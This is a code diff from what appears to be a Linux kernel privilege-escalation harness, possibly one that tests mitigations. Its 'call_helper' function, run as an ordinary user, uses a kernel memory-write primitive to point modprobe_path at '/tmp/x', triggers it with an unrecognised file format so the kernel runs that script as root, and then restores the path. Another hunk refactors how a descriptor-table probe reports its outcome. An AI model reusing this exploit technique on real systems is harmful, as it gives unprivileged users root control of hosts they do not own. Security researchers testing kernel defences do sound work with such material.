@@ -71,6 +71,7 @@ static enum outcome gdt(struct line *line)
 {
     unsigned long selector = 0;
     long error = strike("gdt", 0, &selector);
+    enum outcome outcome = SUCCESS;
     unsigned int rights = 0;
     bool seen;
 
@@ -79,12 +80,13 @@ static enum outcome gdt(struct line *line)
         put(line, "lar finds a descriptor at selector ");
         put_hex(line, selector);
     } else if (error) {
-        judge(line, error);
+        outcome = judge(line, error);
     } else {
         put(line, "lar finds no descriptor");
+        outcome = BLOCKED;
     }
     undo("gdt");
-    return seen ? SUCCESS : error && error != -1 && error != -14 ? FAILED : BLOCKED;
+    return outcome;
 }
 
 /* Runs as an ordinary user; its exit status is 0 once it is root, which opening a file of root's proves. */
@@ -194,16 +196,15 @@ static enum outcome credentials_poke(struct line *line)
 /* As an ordinary user: point modprobe_path to our script, and run a file of a format that no one knows. */
 static int call_helper(void)
 {
-    long hole = open_hole(), child;
-    unsigned long path, original;
+    long hole = open_hole(), child, error;
+    unsigned long path;
 
     CALL(__NR_setresgid, USER_ID, USER_ID, USER_ID);
     CALL(__NR_setresuid, USER_ID, USER_ID, USER_ID);
     path = ask(hole, "symbol modprobe_path");
-    original = 0x6f6d2f6e6962732fUL; /* "/sbin/mo", the beginning of "/sbin/modprobe" */
     if (!path)
         return 2;
-    poke(hole, path, 0x782f706d742fUL); /* "/tmp/x" */
+    error = poke(hole, path, 0x782f706d742fUL); /* "/tmp/x" */
     child = CALL(__NR_fork);
     if (child == 0) {
         const char *arguments[] = { TRIGGER, 0 };
@@ -212,8 +213,8 @@ static int call_helper(void)
         CALL(__NR_exit_group, 0);
     }
     wait_for(child);
-    if (!keep)
-        poke(hole, path, original);
+    if (!error && !keep)
+        poke(hole, path, 0x6f6d2f6e6962732fUL); /* "/sbin/mo", the beginning of "/sbin/modprobe" */
     return 0;
 }
 
